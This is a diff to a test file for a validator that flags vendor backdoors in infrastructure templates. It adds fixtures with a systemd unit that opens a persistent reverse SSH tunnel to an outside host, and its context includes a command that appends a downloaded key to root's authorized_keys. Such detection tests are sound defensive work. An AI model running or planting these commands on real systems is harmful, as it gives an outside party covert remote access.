@@ -50,6 +50,24 @@ export const noSellerAccess = defineValidator({
 			expect: [{message: 'tunnel', at: 'tunnel@support.larkspur-queue.com', subject: 'Host'}],
 		},
 		{
+			name: 'a tunnel in a unit that user data writes',
+			files: {
+				'template.yaml': hostRunning(
+					"cat > /etc/systemd/system/link.service <<'UNIT'\n[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 link@support.larkspur-queue.com\nUNIT\nsystemctl enable --now link",
+				),
+			},
+			expect: [{message: 'tunnel', at: 'link@support.larkspur-queue.com', subject: 'Host'}],
+		},
+		{
+			name: 'a unit that nothing in the template starts, as a warning: the image may',
+			files: {
+				'template.yaml': hostRunning(
+					"cat > /etc/systemd/system/link.service <<'UNIT'\n[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 link@support.larkspur-queue.com\nUNIT",
+				),
+			},
+			expect: [{message: 'tunnel', at: 'link@support.larkspur-queue.com'}],
+		},
+		{
 			name: 'keys from a host',
 			files: {'template.yaml': hostRunning('curl -fsS https://keys.larkspur-queue.com/support.pub >> /root/.ssh/authorized_keys')},
 			expect: [{message: 'fetched', at: 'https://keys.larkspur-queue.com/support.pub'}],
